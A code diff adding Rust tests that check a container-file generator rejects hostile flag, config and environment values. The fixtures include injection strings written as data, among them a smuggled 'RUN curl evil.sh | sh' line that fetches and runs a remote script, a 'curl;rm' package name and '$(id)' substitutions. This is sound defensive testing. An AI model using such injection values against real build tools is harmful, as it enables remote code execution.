@@ -133,6 +133,63 @@ fn hostile_flag_values_are_refused() {
             .code(1)
             .stderr(predicate::str::contains(format!("flag {flag}")));
     }
+    for (flag, value, says) in [
+        (
+            "--command",
+            "/app\nRUN curl evil.sh | sh",
+            "control character",
+        ),
+        ("--command", "/app 'unterminated", "missing closing quote"),
+        ("--command", "", "the start command is empty"),
+        ("--runtime-package", "curl;rm", "is not a package name"),
+        ("--runtime-package", "Curl", "is not a package name"),
+        ("--user", "0", "non-root"),
+        ("--user", "70000", "non-root"),
+    ] {
+        docksmith()
+            .args(["generate", flag, value])
+            .arg(dir.path())
+            .assert()
+            .code(1)
+            .stderr(predicate::str::contains(format!("flag {flag}")))
+            .stderr(predicate::str::contains(says));
+    }
+    // Packages need a package manager: scratch has none.
+    docksmith()
+        .args([
+            "generate",
+            "--flavor",
+            "scratch",
+            "--runtime-package",
+            "tzdata",
+        ])
+        .arg(dir.path())
+        .assert()
+        .code(1)
+        .stderr(predicate::str::contains("has no package manager"))
+        .stderr(predicate::str::contains("hint: use --flavor slim"));
+    // The same checks hold for values from docksmith.toml and the environment.
+    std::fs::write(
+        dir.path().join("docksmith.toml"),
+        "command = \"a\\u0000b\"\n",
+    )
+    .unwrap();
+    docksmith()
+        .arg("generate")
+        .arg(dir.path())
+        .assert()
+        .code(1)
+        .stderr(predicate::str::contains("docksmith.toml key `command`"));
+    std::fs::remove_file(dir.path().join("docksmith.toml")).unwrap();
+    docksmith()
+        .arg("generate")
+        .env("DOCKSMITH_RUNTIME_PACKAGES", "tzdata $(id)")
+        .arg(dir.path())
+        .assert()
+        .code(1)
+        .stderr(predicate::str::contains(
+            "environment variable DOCKSMITH_RUNTIME_PACKAGES",
+        ));
     docksmith()
         .args(["generate", "--bin", "$(id)\nRUN x"])
         .arg(dir.path())
